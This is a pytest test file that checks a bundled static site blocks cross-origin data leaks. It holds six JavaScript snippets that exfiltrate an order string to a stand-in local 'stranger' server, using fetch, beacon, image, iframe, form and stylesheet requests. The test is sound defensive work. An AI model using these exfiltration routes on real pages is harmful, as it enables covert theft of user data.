"""Served by a host that sends no headers of ours, a page still cannot send anything elsewhere."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest
from site_build import site

LEAKS = {
    "fetch": "to => fetch(to, {method: 'POST', mode: 'no-cors', body: 'order 123'}).catch(() => 0)",
    "beacon": "to => { try { navigator.sendBeacon(to, 'order 123') } catch { } }",
    "picture": "to => { new Image().src = to + '?order=123' }",
    "frame": "to => { document.body.append(Object.assign(document.createElement('iframe'), {src: to})) }",
    "form": "to => { const form = Object.assign(document.createElement('form'), {action: to});"
    " document.body.append(form); form.submit() }",
    "style": "to => { document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: to})) }",
}


class Plain(SimpleHTTPRequestHandler):
    """A host that knows nothing of us, with one empty page that is not ours."""

    def do_GET(self) -> None:
        """Answer as any server would, and with nothing for ``/empty``."""
        if self.path != "/empty":
            super().do_GET()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()

    def log_message(self, format, *args) -> None:
        """Say nothing."""


class Stranger(BaseHTTPRequestHandler):
    """Somebody else, who notes every request."""

    heard: list[str] = []

    def do_GET(self) -> None:
        """Note it, and allow everything."""
        self.heard.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, format, *args) -> None:
        """Say nothing."""


def _running(handler) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def plain() -> Iterator[str]:
    """Return the address of the site on the host without headers."""
    server = _running(partial(Plain, directory=str(site(bundled=True))))
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


@pytest.fixture
def stranger() -> Iterator[str]:
    """Return the address of somebody else."""
    Stranger.heard.clear()
    server = _running(Stranger)
    yield f"http://127.0.0.1:{server.server_address[1]}/taken"
    server.shutdown()


@pytest.mark.parametrize("way", LEAKS)
def test_no_way_leads_out_of_a_page(browser, plain, stranger, way):
    """Each way reaches the stranger from an empty page, and none from ours."""
    page = browser.new_page()
    try:
        for start in (plain + "empty", plain):
            page.goto(start)
            page.evaluate(LEAKS[way], stranger)
            page.wait_for_timeout(400)
            if start != plain:
                assert Stranger.heard, f"{way} proves nothing: it does not work at all"
                Stranger.heard.clear()
        assert [] == Stranger.heard
        assert page.url == plain
    finally:
        page.close()
